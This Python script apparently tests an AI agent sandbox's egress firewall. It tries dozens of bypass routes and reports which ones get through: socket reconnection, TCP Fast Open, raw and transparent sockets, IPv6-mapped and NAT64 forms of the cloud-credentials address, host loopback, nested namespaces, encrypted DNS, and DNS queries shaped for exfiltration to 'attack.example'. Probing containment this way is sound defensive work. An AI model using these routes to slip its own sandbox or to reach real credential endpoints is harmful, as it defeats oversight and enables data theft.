#!/usr/bin/python3
"""Knocks at the network gate from inside, each by a way of its own.

    net.py ALLOWED PORT

One JSON object on stdout: what became of each. `through` means that an answer
of the world arrived, `own` that something of the sandbox answered.
"""
import ctypes
import errno
import json
import os
import socket
import struct
import subprocess
import sys

ALLOWED, PORT = sys.argv[1], int(sys.argv[2])
OUTSIDE = "203.0.113.9"
libc = ctypes.CDLL(None, use_errno=True)


def word(error):
    if isinstance(error, TimeoutError):
        return "silent"
    return errno.errorcode.get(error.errno or 0, type(error).__name__)


def tried(act):
    try:
        return act()
    except OSError as error:
        return word(error)


def hear(s, host=OUTSIDE, sent=False, port=80):
    s.settimeout(60)
    if not sent:
        s.sendall(f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode())
    answer = b""
    while True:
        more = s.recv(4096)
        if not more:
            break
        answer += more
    if b"Forbidden by agentfw" in answer:
        return "forbidden"
    return "through" if answer else "closed"


def ask(host, port=80, family=socket.AF_INET, before=None, kind=socket.SOCK_STREAM, proto=0, said=None):
    s = socket.socket(family, kind, proto)
    s.settimeout(60)
    if before:
        before(s)
    s.connect((host, port))
    return hear(s, said or host, port=port)


def datagram(host, port, family=socket.AF_INET, proto=0, before=None):
    s = socket.socket(family, socket.SOCK_DGRAM, proto)
    s.settimeout(1)
    if before:
        before(s)
    s.connect((host, port))
    s.send(b"knock")
    s.recv(99)
    return "through"


def unspec(s):
    """connect() with AF_UNSPEC dissolves a connection: the socket may be connected anew."""
    address = struct.pack("H14x", 0)
    if libc.connect(s.fileno(), address, len(address)):
        raise OSError(ctypes.get_errno(), "connect")


def again():
    s = socket.create_connection((ALLOWED, PORT), 60)
    unspec(s)
    s.connect((OUTSIDE, 80))
    return hear(s)


def fast(host, port, said):
    s = socket.socket()  # blocking: the data goes into the SYN, or waits for it
    request = f"GET / HTTP/1.1\r\nHost: {said}:{port}\r\nConnection: close\r\n\r\n".encode()
    s.sendto(request, socket.MSG_FASTOPEN, (host, port))
    return hear(s, sent=True)


def flow():
    s = socket.socket(socket.AF_INET6)
    s.settimeout(60)
    s.setsockopt(socket.IPPROTO_IPV6, 33, 1)  # IPV6_FLOWINFO_SEND
    s.connect(("2001:db8::9", 80, 0xABCDE, 0))
    return hear(s, "[2001:db8::9]")


def nested(code):
    done = subprocess.run(["unshare", "-Urn", sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    return done.stdout.strip() or done.stderr.strip().split("\n")[-1]


def from_nested():
    """A namespace below ours has another loopback, and none of our way to the gate."""
    server = socket.create_server(("127.0.0.1", 0))
    code = f"""
import os, socket
os.system("ip link set lo up; ip route add local default dev lo; ip route add default dev lo")
found = []
for host, port in (("127.0.0.1", {server.getsockname()[1]}), ("{OUTSIDE}", 80)):
    s = socket.socket(); s.settimeout(5)
    try:
        s.connect((host, port)); found.append("CONNECTED")
    except OSError as error:
        found.append("no")
print(*found)"""
    return nested(code)


def pipelined(count):
    """Many questions on one DNS connection, each for a name that nobody allowed."""
    s = socket.create_connection(("9.9.9.9", 53), 60)
    sent = b""
    for i in range(count):
        name = f"secret{i}.attack.example".split(".")
        q = struct.pack(">HHHHHH", i, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(x)]) + x.encode() for x in name) + b"\0" + struct.pack(">HH", 1, 1)
        sent += struct.pack(">H", len(q)) + q
    s.sendall(sent)
    reader = s.makefile("rb")
    own = 0
    for _ in range(count):
        (length,) = struct.unpack(">H", reader.read(2))
        own += reader.read(length)[-4:-2] == bytes([198, 19])
    return f"own {own}"


def hello(host, port):
    import ssl

    context = ssl._create_unverified_context()
    with socket.create_connection((host, port), 60) as s:
        try:
            context.wrap_socket(s, server_hostname="dns.example")
        except ssl.SSLError as error:
            return error.reason
    return "through"


def listed(port):
    """The listener of the host in our /proc/net: 0A is its state."""
    lines = [line.split() for name in ("tcp", "tcp6") for line in open(f"/proc/net/{name}")]
    loopback = ("0100007F", "0000000000000000FFFF00000100007F", "00000000")
    return "seen" if any(fields[1] in [f"{at}:{port:04X}" for at in loopback] and fields[3] == "0A" for fields in lines) else "none"


def option(level, name, value):
    return lambda s: s.setsockopt(level, name, value)


V6, LONG = socket.AF_INET6, "a" * 63
found = {
    "an allowed name, plainly": tried(lambda: ask(ALLOWED, PORT)),
    "an allowed name in capitals with its dot": tried(lambda: ask(ALLOWED.upper() + ".", PORT, said=ALLOWED)),
    "an allowed name with data in the SYN": tried(lambda: fast(ALLOWED, PORT, ALLOWED)),
    "NT08 a name below it": tried(lambda: ask("x." + ALLOWED, PORT)),
    "NT07 a name that looks like it": tried(lambda: ask(ALLOWED.replace("p", "\u0440", 1).encode("idna").decode(), PORT)),
    "NT07 a name with an underscore": tried(lambda: ask("_." + ALLOWED, PORT)),
    "NT07 a name of 255 bytes": tried(lambda: ask(".".join([LONG, LONG, LONG, "a" * 59]), PORT)),
    "NT02 an address": tried(lambda: ask(OUTSIDE)),
    "NT02 an address with data in the SYN": tried(lambda: fast(OUTSIDE, 80, OUTSIDE)),
    "NT02 a socket that was connected elsewhere before": tried(again),
    "NT02 a socket bound to the device": tried(lambda: ask(OUTSIDE, before=option(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo"))),
    "NT02 a socket bound to a foreign address": tried(lambda: ask(OUTSIDE, before=lambda s: s.bind(("192.0.2.7", 0)))),
    "NP07 a transparent socket": tried(lambda: ask(OUTSIDE, before=option(0, 19, 1))),
    "NP13 an IPv6 address with a flow label": tried(flow),
    "NT10 credentials, mapped": tried(lambda: ask("::ffff:169.254.169.254", family=V6)),
    "NT10 credentials, translated": tried(lambda: ask("64:ff9b::a9fe:a9fe", family=V6)),
    "NT11 the host's loopback, translated": tried(lambda: ask("64:ff9b::7f00:1", PORT, V6)),
    "NT11 the host's loopback by 6to4": tried(lambda: ask("2002:7f00:1::", PORT, V6)),
    "NP14 the host's loopback": tried(lambda: ask("127.0.0.1", PORT)),
    "NP14 the host's loopback by no address": tried(lambda: ask("0.0.0.0", PORT)),
    "NP14 the host's loopback, mapped": tried(lambda: ask("::ffff:127.0.0.1", PORT, V6)),
    "NP08 MPTCP": tried(lambda: ask(ALLOWED, PORT, proto=262)),
    "NP07 SCTP": tried(lambda: ask(OUTSIDE, proto=132)),
    "NP07 DCCP": tried(lambda: ask(OUTSIDE, kind=6, proto=33)),
    "NP07 raw TCP": tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 6) and "through"),
    "NP07 a packet socket": tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0) and "through"),
    "NP07 ping": tried(lambda: datagram(OUTSIDE, 0, proto=1)),
    "NP04 UDP-Lite": tried(lambda: datagram(OUTSIDE, 443, proto=136)),
    "NP05 QUIC to an allowed name": tried(lambda: datagram(ALLOWED, 443)),
    "NP04 a broadcast": tried(lambda: datagram("255.255.255.255", 67, before=option(socket.SOL_SOCKET, socket.SO_BROADCAST, 1))),
    "NP04 a multicast": tried(lambda: datagram("224.0.0.251", 5353)),
    "NP04 an IPv6 multicast": tried(lambda: datagram("ff02::fb", 5353, V6)),
    "NP01 many questions on one connection": tried(lambda: pipelined(50)),
    "NP02 DNS over TLS": tried(lambda: hello("1.1.1.1", 853)),
    "NP02 DNS over HTTPS": tried(lambda: hello("1.1.1.1", 443)),
    "NP07 from a namespace below": tried(from_nested),
    "NP14 sockets of the host in /proc": tried(lambda: listed(PORT)),
}
print(json.dumps(found, indent=1))
